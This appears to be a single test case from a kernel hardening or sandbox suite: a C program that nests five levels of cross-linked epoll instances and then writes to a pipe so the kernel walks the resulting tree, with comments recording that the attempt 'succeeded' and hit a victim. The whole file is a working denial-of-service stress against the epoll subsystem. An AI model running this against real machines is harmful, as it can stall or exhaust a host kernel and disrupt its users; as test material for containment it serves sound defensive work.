// tries: nest watches on watches, which the kernel walks as a tree
// outcome: succeeded
// victim: yes
#include "hostile.h"
#include <sys/epoll.h>
int main(void) {
	int level[5][24];
	for (int l = 0; l < 5; l++) for (int i = 0; i < 24; i++) level[l][i] = epoll_create1(0);
	struct epoll_event e = {.events = EPOLLIN};
	for (int l = 0; l < 4; l++) for (int i = 0; i < 24; i++) for (int k = 0; k < 24; k++) epoll_ctl(level[l][i], EPOLL_CTL_ADD, level[l + 1][k], &e);
	int p[2];
	if (pipe(p)) return 1;
	for (int k = 0; k < 24; k++) epoll_ctl(level[4][k], EPOLL_CTL_ADD, p[0], &e);
	for (int i = 0; i < 4; i++) if (write(p[1], "x", 1) < 0) break;
	return contained();
}
